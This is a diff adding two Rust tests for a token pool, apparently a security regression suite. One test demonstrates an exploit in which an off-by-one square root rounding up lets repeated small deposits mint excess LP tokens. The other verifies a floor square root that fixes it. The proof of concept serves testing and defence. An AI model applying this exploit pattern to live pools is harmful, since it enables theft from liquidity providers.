@@ -0,0 +1,44 @@
+#[tokio::test]
+async fn test_sqrt_rounds_up_exploit() {
+    println!("\n=== EXPLOIT: LP Minted With An Off-By-One Square Root ===\n");
+
+    let mallory = Keypair::new();
+    let pool = create_pool(1_000_000, 2_000_000).await;
+
+    println!("1. sqrt(8) with the Newton implementation");
+    assert_eq!(sqrt(8), 3);
+    assert_eq!(sqrt(288), 17);
+    println!("   3 (floor is 2); sqrt(288) = 17 (floor is 16)");
+
+    println!("\n2. Mallory deposits 2 A + 4 B, 1,000 times");
+    for _ in 0..1_000 {
+        // Vulnerable: 3 LP minted for a deposit worth 2.83
+        deposit(&pool, &mallory, 2, 4).await.unwrap();
+    }
+    assert_eq!(get_position(&pool, &mallory).await.lp_balance, 3_000);
+
+    let (value_a, value_b) = redeem_value(&pool, 3_000).await;
+    assert!(value_a > 2_100 && value_b > 4_200);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ 2,000 A + 4,000 B in, ~2,121 A + ~4,242 B of LP out");
+}
+
+#[tokio::test]
+async fn test_verified_floor_sqrt() {
+    println!("\n=== SECURITY: Floor Square Root With Invariant Check ===\n");
+
+    let mallory = Keypair::new();
+    let pool = create_pool(1_000_000, 2_000_000).await;
+
+    println!("1. checked_sqrt on k² - 1 inputs");
+    assert_eq!(checked_sqrt(8).unwrap(), 2);
+    assert_eq!(checked_sqrt(288).unwrap(), 16);
+    assert_eq!(checked_sqrt(u128::MAX).unwrap(), u64::MAX);
+    println!("   ✓ 2, 16, and no overflow at u128::MAX");
+
+    println!("\n2. Mallory deposits 2 A + 4 B");
+    deposit(&pool, &mallory, 2, 4).await.unwrap();
+    assert_eq!(get_position(&pool, &mallory).await.lp_balance, 2);
+    println!("   ✓ 2 LP minted; rounding favors the pool");
+}